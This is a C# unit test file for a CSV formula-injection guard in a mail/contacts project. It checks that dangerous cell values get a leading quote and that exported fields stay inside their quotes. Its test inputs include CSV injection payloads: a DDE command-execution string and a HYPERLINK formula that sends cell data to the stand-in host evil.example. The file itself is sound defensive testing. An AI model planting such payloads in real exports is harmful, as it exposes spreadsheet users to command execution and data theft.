using System.Text;
using ColdMail.Contacts.Csv;

namespace ColdMail.Tests.Contacts.Csv;

public sealed class FormulaGuardTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1 555 0100")]
    [InlineData("-2")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("\0=1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠x")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
    [InlineData("+SUM(1)*cmd|' /C calc'!A0")]
    [InlineData("'=1+1")]
    [InlineData("''=1+1")]
    public void A_value_that_a_spreadsheet_would_run_is_defused_and_restored(string value)
    {
        var guarded = FormulaGuard.Protect(value);

        Assert.Equal("'" + value, guarded);
        Assert.Equal(value, FormulaGuard.Unprotect(guarded));
    }

    [Theory]
    [InlineData("")]
    [InlineData("'")]
    [InlineData("''")]
    [InlineData("plain")]
    [InlineData("'quoted'")]
    [InlineData("a=b")]
    [InlineData("O'Brien")]
    public void Any_other_value_stays_as_it_is(string value)
    {
        Assert.Equal(value, FormulaGuard.Protect(value));
        Assert.Equal(value, FormulaGuard.Unprotect(value));
    }

    [Fact]
    public void No_exported_field_can_break_out_of_its_quotes()
    {
        var text = new StringBuilder().AppendRecord("a;\"=1+1", "line\r\nbreak", "=x").ToString();

        Assert.Equal("\"a;\"\"=1+1\",\"line\r\nbreak\",\"'=x\"\r\n", text);
    }
}
